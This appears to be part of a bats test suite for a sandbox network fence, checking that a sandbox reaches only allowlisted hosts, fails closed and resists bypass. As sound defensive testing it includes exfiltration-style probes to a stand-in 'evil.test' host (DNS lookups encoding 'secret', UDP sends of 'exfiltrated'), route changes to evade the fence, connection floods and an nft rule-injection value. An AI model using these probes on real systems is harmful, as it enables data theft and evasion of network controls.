  H="ssnet-h-$$" S="ssnet-s-$$" I="ssnet-i-$$"
  for ns in "$H" "$S" "$I"; do ip netns add "$ns"; ip -n "$ns" link set lo up; done
  NSES=("$H" "$S" "$I")
  wire "$H" sbx-h 10.77.0.1 "$S" sbx-s 10.77.0.2
  wire "$H" inet-h 198.51.100.1 "$I" inet-i 198.51.100.2 routed
  ip netns exec "$H" sysctl -qw net.ipv4.ip_forward=1
  # The sandbox's resolver is an outside one: the fence must catch lookups sent anywhere.
  mkdir -p "/etc/netns/$S"
  echo "nameserver 198.51.100.2" >"/etc/netns/$S/resolv.conf"
  mkdir -p "$W/www"
  echo "hello from outside" >"$W/www/index.html"
  NS=$I background "$W/dns.port" python3 "$SS_SOURCE_DIR/tests/cli/dns_server.py" 198.51.100.2 53 \
    "$W/dns.queries" allowed.test=198.51.100.2 evil.test=198.51.100.2
  local port
  for port in 80 8080; do
    NS=$I background "$W/http$port.port" python3 "$SS_SOURCE_DIR/tests/cli/web_server.py" \
      198.51.100.2 "$port" "$W/www"
  done
  # What reaches the internet by UDP, ICMP aside: a listener that writes what it gets.
  NS=$I background "$W/udp.ready" python3 -c '
import socket, sys
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
u.bind(("198.51.100.2", 9999))
print("ready", flush=True)
while True:
    data, peer = u.recvfrom(4096)
    open(sys.argv[1], "ab").write(data + b"\n")' "$W/udp.got"
  ss net allow allowed.test --sandbox box >/dev/null
  NS=$H background "$W/ready.json" "$SS_BUILD_DIR/libexec/ss/ss-net" serve --sandbox box \
    --upstream-dns 198.51.100.2 --proxy 10.77.0.1:0 --transparent 10.77.0.1:0 --dns 10.77.0.1:0
  NET_PID=${PIDS[-1]}
  port_of() { jq -r ".$1[0]" "$W/ready.json" | sed 's/.*://'; }
  ip netns exec "$H" "$SS_BUILD_DIR/libexec/ss/ss-net" fence apply --sandbox box \
    --interface sbx-h --gateway 10.77.0.1 --proxy-port "$(port_of proxy)" \
    --transparent-port "$(port_of transparent)" --dns-port "$(port_of dns)" "$@"
}

teardown_world() {
  local ns
  for ns in "${NSES[@]}"; do ip netns del "$ns" 2>/dev/null || true; done
  rm -rf "/etc/netns/${S:-none}"
}

sandbox() { ip netns exec "$S" "$@"; }

@test "fence: the sandbox's only ways out are ss-net's; root inside cannot get around it" {
  fenced_world
  # Allowed, through the proxy variable and transparently (DNS through the fence, too).
  run sandbox curl -sS --proxy http://10.77.0.1:3128 http://allowed.test/
  assert_output "hello from outside"
  run sandbox curl -sS http://allowed.test/
  assert_output "hello from outside"
  run sandbox dig +short allowed.test
  assert_output 198.51.100.2
  # Denied names: at once, with the reason; lookups of them go nowhere.
  run sandbox curl -s --proxy http://10.77.0.1:3128 http://evil.test/
  assert_output "ss-net: evil.test:80 is not in the allowlist of sandbox 'box'; to allow it: ss net allow evil.test"
  run sandbox curl -s --resolve evil.test:80:198.51.100.2 http://evil.test/
  assert_output "ss-net: evil.test:80 is not in the allowlist of sandbox 'box'; to allow it: ss net allow evil.test"
  run sandbox dig @198.51.100.2 TXT c2VjcmV0.evil.test
  assert_output --partial "status: NXDOMAIN"
  run sandbox dig @8.8.8.8 +tcp evil.test
  assert_output --partial "status: NXDOMAIN"
  # Every other way out is refused at once: another TCP port, the host's own services, UDP,
  # ICMP, IPv6, the proxy's own port named directly.
  local start=$SECONDS
  run sandbox curl -sS http://198.51.100.2:8080/
  assert_failure 7
  run sandbox curl -sS "http://10.77.0.1:$(port_of proxy)/"
  assert_failure 7
  run sandbox curl -sS http://10.77.0.1:22/
  assert_failure 7
  run sandbox ping -c 1 -W 2 198.51.100.2
  assert_failure
  run sandbox ping -c 1 -W 2 10.77.0.1
  assert_failure
  sandbox python3 -c '
import socket
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for port in (9999, 53, 123, 443):
    try: u.sendto(b"exfiltrated", ("198.51.100.2", port))
    except OSError: pass'
  run sandbox ping -6 -c 1 -W 2 "fe80::1%sbx-s"
  assert_failure
  # Root changes its routes and addresses: the packets still cross the fenced link.
  sandbox ip route replace default dev sbx-s
  sandbox ip addr add 198.51.100.77/24 dev sbx-s
  run sandbox curl -sS http://198.51.100.2:8080/
  assert_failure
  run sandbox curl -sS --proxy http://10.77.0.1:3128 http://allowed.test/
  assert_output "hello from outside"
  [ $((SECONDS - start)) -lt 20 ]
  sleep 0.5
  assert_file_not_exists "$W/udp.got"
  # The upstream resolver heard of allowed.test only (its A and AAAA records).
  run grep -cv '^allowed.test ' "$W/dns.queries"
  assert_output 0
  teardown_world
}

@test "fence: when ss-net is gone the sandbox reaches nothing (fail closed); remove takes the rules away" {
  fenced_world
  run sandbox curl -sS http://allowed.test/
  assert_output "hello from outside"
  kill "$NET_PID"
  wait "$NET_PID" || true
  run sandbox curl -sS --proxy http://10.77.0.1:3128 http://allowed.test/
  assert_failure 7
  run sandbox curl -sS --resolve allowed.test:80:198.51.100.2 http://allowed.test/
  assert_failure 7
  run sandbox curl -sS http://198.51.100.2:8080/
  assert_failure 7
  ip netns exec "$H" nft list chain inet ss sandbox-box-in >/dev/null
  ip netns exec "$H" "$SS_BUILD_DIR/libexec/ss/ss-net" fence remove --sandbox box
  run ip netns exec "$H" nft list chain inet ss sandbox-box-in
  assert_failure
  run ip netns exec "$H" nft list table inet ss  # the last sandbox's gone: the table too
  assert_failure
  # Removing what is not there is no error.
  ip netns exec "$H" "$SS_BUILD_DIR/libexec/ss/ss-net" fence remove --sandbox box
  teardown_world
}

@test "fence: lookups and connections from many source ports stop at the sandbox's share of the host's table" {
  fenced_world --connections 256
  local before after
  before=$(ip netns exec "$H" cat /proc/sys/net/netfilter/nf_conntrack_count)
  # As root inside: 2000 lookups, each from a source port of its own, to any resolver; then
  # 600 connections to the web, each from its own port, none waited for.
  sandbox python3 - <<'EOF'
import socket, struct
q = struct.pack("!HHHHHH", 7, 0x0100, 1, 0, 0, 0) + b"\x04evil\x04test\x00\x00\x01\x00\x01"
for i in range(2000):
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try: u.sendto(q, ("198.51.100.%d" % (2 + i % 50), 53))
    except OSError: pass
    u.close()
held = []
for i in range(600):
    t = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    t.setblocking(False)
    try: t.connect(("198.51.100.2", 80))
    except OSError: pass
    held.append(t)
EOF
  # The host tracks at most the share (and a few flows of its own: ss-net's lookups).
  after=$(ip netns exec "$H" cat /proc/sys/net/netfilter/nf_conntrack_count)
  echo "# tracked before $before, after $after" >&3
  [ "$((after - before))" -le 300 ]
  # The rest was dropped, counted, and logged (at most once a second).
  run ip netns exec "$H" nft list chain inet ss sandbox-box-in
  assert_output --regexp 'ct count over 256 counter packets [0-9]{3,}'
  assert_output --partial 'log prefix "ss: sandbox box is over its 256 connections: "'
  teardown_world
}

@test "net: connections over the sandbox's share are refused with the reason; out of descriptors it waits, never spins, then serves" {
  fake_internet
  ss net allow allowed.test --sandbox box >/dev/null
  serve --proxy 127.0.0.1:0 --connections 3
  local pid=${PIDS[-1]} before after waiting
  # Its soft limit of open files was raised to the hard one.
  [ "$(awk '/Max open files/ {print $4}' "/proc/$pid/limits")" = \
    "$(awk '/Max open files/ {print $5}' "/proc/$pid/limits")" ]
  # Three held connections take the share: a fourth is closed at once, and the log says why.
  run in_ns python3 - "${PROXY%:*}" "${PROXY##*:}" <<'EOF'
import socket, sys, time
held = [socket.create_connection((sys.argv[1], int(sys.argv[2]))) for _ in range(3)]
time.sleep(0.3)
extra = socket.create_connection((sys.argv[1], int(sys.argv[2])))
extra.settimeout(5)
start = time.time()
print("closed" if extra.recv(1) == b"" else "open", time.time() - start < 2)
EOF
  assert_output "closed True"
  LOG | jq -e -s 'map(select(.verdict == "deny" and (.reason | test("sandbox .box. is over its share of 3 connections and lookups at once")))) | length >= 1'
  # Released, they serve again.
  run in_ns curl -sS --proxy "http://$PROXY" "http://allowed.test:$HTTP_PORT/"
  assert_output "hello from outside"
  # Out of descriptors (its soft limit lowered below the ones it holds): a connection waits in
  # the queue while ss-net retries, slower each time, at a few percent of a CPU at most.
  prlimit --pid "$pid" --nofile=4:
  in_ns curl -sS --proxy "http://$PROXY" "http://allowed.test:$HTTP_PORT/" >"$W/waited" 2>&1 3>&- &
  waiting=$!
  before=$(awk '{print $14 + $15}' "/proc/$pid/stat")
  sleep 2
  after=$(awk '{print $14 + $15}' "/proc/$pid/stat")
  echo "# ss-net out of descriptors for 2 s: $((after - before)) ticks of CPU" >&3
  [ "$((after - before))" -le 20 ]
  LOG | jq -e -s 'map(select(.verdict == "error" and (.reason | test("cannot take a connection: Too many open files")))) | length >= 1'
  # Descriptors back: the waiting connection is served, and the next one.
  prlimit --pid "$pid" --nofile=4096:
  wait "$waiting"
  assert_equal "$(cat "$W/waited")" "hello from outside"
  run in_ns curl -sS --proxy "http://$PROXY" "http://allowed.test:$HTTP_PORT/"
  assert_output "hello from outside"
}

@test "fence: what cannot be written into the rules is refused before nft sees it" {
  run --separate-stderr ss net fence apply --sandbox box --interface 'x" accept' --gateway 10.0.0.1 \
    --proxy-port 1 --transparent-port 2 --dns-port 3
  assert_failure 65
  [[ "$stderr" == *"not a network interface name"* ]]
  run --separate-stderr ss net fence apply --sandbox box --interface br0 --gateway ::1 \
    --proxy-port 1 --transparent-port 2 --dns-port 3
  assert_failure 65
  run --separate-stderr ss net fence apply --sandbox box --interface br0
  assert_failure 64
}

@test "net: the log is rotated past its size (log.jsonl.1), and ss net log reads both, following across" {
  local log="$SS_HOME/.ss/sandboxes/box/net/log.jsonl"
  SS_NET_LOG_MAX_BYTES=4096 background "$W/ready.json" "$SS_BUILD_DIR/libexec/ss/ss-net" serve \
    --sandbox box --upstream-dns 127.0.0.1:9 --dns 127.0.0.1:0
  DNS=$(jq -r '.dns[0]' "$W/ready.json")
  # lookups FIRST COUNT [PAUSE]: COUNT lookups of denied names nFIRST.evil.test, …, each answered,
  # PAUSE seconds apart.
  lookups() {
    python3 - "${DNS##*:}" "$1" "$2" "${3:-0}" <<'EOF'
import socket, struct, sys, time
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(5)
for i in range(int(sys.argv[2]), int(sys.argv[2]) + int(sys.argv[3])):
    label = b"n%d" % i
    q = struct.pack("!HHHHHH", i & 0xffff, 0x0100, 1, 0, 0, 0)
    q += bytes([len(label)]) + label + b"\x04evil\x04test\x00" + struct.pack("!HH", 1, 1)
    s.sendto(q, ("127.0.0.1", int(sys.argv[1])))
    assert s.recv(512)[3] & 15 == 3  # NXDOMAIN
    time.sleep(float(sys.argv[4]))
EOF
  }
  lookups 0 200
  # Two files, each at most about the size (one line past it), both whole JSON lines.
  assert_file_exists "$log.1"
  local line_max=400
  [ "$(stat -c %s "$log.1")" -ge 4096 ]
  [ "$(stat -c %s "$log.1")" -lt $((4096 + line_max)) ]
  [ "$(stat -c %s "$log")" -lt $((4096 + line_max)) ]
  [ "$(stat -c %a "$log")" = 600 ]
  jq -e -s 'length > 0' "$log.1" "$log" >/dev/null
  # The last lookup is in the log; the first ones are gone.
  jq -e -s 'map(select(.destination == "n199.evil.test")) | length == 1' "$log.1" "$log" >/dev/null
  run grep -c '"n0.evil.test"' "$log.1" "$log"
  assert_output --partial ":0"
  refute_output --partial ":1"
  # ss net log: the older file, then the current one.
  run ss net log --json --sandbox box
  assert_success
  [ "${#lines[@]}" -eq "$(cat "$log.1" "$log" | wc -l)" ]
  assert_equal "${lines[0]}" "$(head -1 "$log.1")"
  assert_equal "${lines[-1]}" "$(tail -1 "$log")"
  # Following: what comes after a rotation is read from the new file (about 14 lines a file
  # here, one every 50 ms: each file lives longer than the 200 ms between two looks).
  background "$W/follow.out" "$SS_BUILD_DIR/bin/ss" net log -f --sandbox box
  lookups 1000 100 0.05
  local i
  for ((i = 0; i < 50; i++)); do
    grep -q 'n1099.evil.test' "$W/follow.out" && break
    sleep 0.2
  done
  run grep -c -E 'deny  dns  n10[0-9][0-9]\.evil\.test A' "$W/follow.out"
  assert_output 100
}
